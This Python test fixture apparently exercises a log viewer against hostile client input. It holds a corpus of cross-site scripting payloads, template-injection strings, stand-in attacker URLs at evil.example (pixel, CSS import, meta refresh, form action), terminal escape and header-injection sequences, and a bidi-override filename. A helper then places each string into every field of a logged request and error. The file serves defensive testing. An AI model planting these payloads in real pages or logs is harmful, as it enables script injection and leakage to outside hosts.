"""What a client can put into a log to attack who reads it in a browser."""

from typing import Any, Final

from spoolway.worker.stores import Item
from tests.stores import error, request

ELSEWHERE: Final = "https://evil.example"
OVERRIDE: Final = "safe\u202eexe.gnp"
"""Read as "safe" and then backwards, by whoever obeys it."""
CORPUS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={ELSEWHERE}/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    f"<iframe src={ELSEWHERE}></iframe><object data={ELSEWHERE}>",
    "<style>*{background:url(https://evil.example/css)}</style>",
    "<style>@import 'https://evil.example/import.css'</style>",
    '"><img src=x onerror=alert(1)>',
    "'\"`--><script>alert(1)</script>",
    "javascript:alert(1)",
    f'<a href="javascript:alert(1)">click</a> {ELSEWHERE}/click [x](javascript:alert(1))',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    f'<base href="{ELSEWHERE}/"><link rel=stylesheet href={ELSEWHERE}/a.css>',
    f"<form action={ELSEWHERE}><button>ok</button></form><input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)} <%= 1 %>",
    "</title></textarea></script><script>alert(1)</script><!--",
    "__proto__",
    "constructor",
    "\u0000\u0001\u0007\u0008\u001b[31mred\u001b[0m\u001b]0;title\u0007\r\nx-injected: 1",
    OVERRIDE,
    "\u2066\u2067\u2068\u2069\u200b\u200e\u200f\ufeff\u00ad\u2028\u2029\U000e0041",
    "Z\u0351\u036b\u0343\u036a\u0302" * 12,
    "\ufdfd" * 40,
    "A" * 30_000,
    "https://evil.example/" + "a/" * 300,
)


def hostile(text: str) -> list[Item]:
    """Return a request with a text in every field, and an error of it."""
    own = text.replace("\u0000", "")  # no database stores it in text
    name: dict[str, Any] = {own or "x": own}
    fields = dict.fromkeys(
        (
            *("model_name", "provider", "provider_model", "path", "method", "query"),
            *("user_id", "api_key_id", "organization_id", "project_id"),
            *("client_ip", "request_id", "stop_reason"),
        ),
        own,
    )
    call = {"id": own, "type": "function", "function": {"name": own, "arguments": own}}
    messages = [
        {"role": own, "name": own, "content": own},
        {"role": "user", "content": [
            {"type": "text", "text": own},
            {"type": "image_url", "image_url": {"url": f"{ELSEWHERE}/a.png?{own[:50]}"}},
            {"type": "image_url", "image_url": {"url": "data:image/svg+xml,<svg onload=alert(1)>"}},
            {"type": "image", "source": {"type": "url", "url": own}},
            {"type": own, "text": own},
            {"type": "tool_result", "tool_use_id": own, "content": own, "is_error": True},
        ]},
        {"role": "assistant", "content": None, "tool_calls": [call], "refusal": own, "reasoning": own},
        {"role": "tool", "tool_call_id": own, "content": own},
    ]  # fmt: skip
    item = request(
        **fields,
        outcome="error",
        http_status=500,
        duration_ms=12.5,
        headers={**name, "referer": own},
        body={"model": own, "messages": messages, "tools": [{"name": own, "description": own}], **name},
        response={"choices": [{"message": {"content": own}, "finish_reason": own}], "error": {"type": own, "message": own}},
        route={"backends": [own]},
        backend_attempts=[{"backend": own, "http_status": 500, "duration_ms": 3, "error_type": own, "error_message": own, "response": own, **name}],
        errors=[{"error_type": own, "error_message": own}],
        usage_stats=name,
        extra=name,
        truncated=["body", own],
    )  # fmt: skip
    return [
        item,
        error(
            item,
            model_name=own,
            error_type=own,
            error_message=own,
            backend_name=own,
            http_status=500,
            request_path=own,
            extra_context={**name, "traceback": f"{own}\n{own}"},
        ),
    ]
